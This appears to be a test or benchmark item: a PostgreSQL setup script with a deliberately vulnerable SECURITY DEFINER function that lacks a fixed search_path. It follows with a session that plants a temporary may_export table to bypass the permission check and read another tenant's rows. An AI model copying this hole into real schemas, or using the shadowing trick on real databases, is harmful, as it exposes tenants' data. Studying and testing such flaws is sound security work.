-- hole: a SECURITY DEFINER function looks its permission up in a table that the caller can put in its way
-- object: app.export_rows(uuid), app.export_rows
-- attack: plant, function
-- seen: told
-- trap: B4-20, BX-28
-- role: {app}
-- why: no search_path is fixed, and for tables pg_temp is searched first: a temporary table of the caller's shadows
--   the one that says who may export.
CREATE ROLE {owner} NOLOGIN BYPASSRLS;
CREATE ROLE {app} LOGIN;
GRANT USAGE, CREATE ON SCHEMA public TO {owner};
CREATE SCHEMA app AUTHORIZATION {owner};
SET ROLE {owner};
CREATE TABLE app.report (
  tenant_id uuid NOT NULL,
  body text NOT NULL,
  PRIMARY KEY (tenant_id, body)
);
ALTER TABLE app.report ENABLE ROW LEVEL SECURITY;
ALTER TABLE app.report FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON app.report
  USING (tenant_id = (SELECT nullif(current_setting('app.tenant_id', true), '')::uuid));
CREATE TABLE public.may_export (tenant_id uuid PRIMARY KEY);
CREATE FUNCTION app.export_rows(wanted uuid) RETURNS SETOF app.report
  LANGUAGE plpgsql STABLE SECURITY DEFINER
  AS $$
  BEGIN
    IF EXISTS (SELECT 1 FROM may_export WHERE tenant_id = wanted) THEN
      RETURN QUERY SELECT * FROM app.report r WHERE r.tenant_id = wanted;
    END IF;
  END $$;
REVOKE EXECUTE ON FUNCTION app.export_rows(uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION app.export_rows(uuid) TO {app};
GRANT USAGE ON SCHEMA app TO {app};
GRANT SELECT, INSERT, UPDATE, DELETE ON app.report TO {app};
RESET ROLE;
INSERT INTO app.report VALUES
  ('aaaaaaaa-0000-4000-8000-00000000000a', 'a'), ('bbbbbbbb-0000-4000-8000-00000000000b', 'b');

-- session 1 as {app}
SET app.tenant_id = 'aaaaaaaa-0000-4000-8000-00000000000a';
SELECT body FROM app.export_rows('bbbbbbbb-0000-4000-8000-00000000000b');
-- gives: nothing
CREATE TEMP TABLE may_export AS SELECT 'bbbbbbbb-0000-4000-8000-00000000000b'::uuid AS tenant_id;
GRANT SELECT ON pg_temp.may_export TO PUBLIC;
SELECT body FROM app.export_rows('bbbbbbbb-0000-4000-8000-00000000000b');
-- gives: b
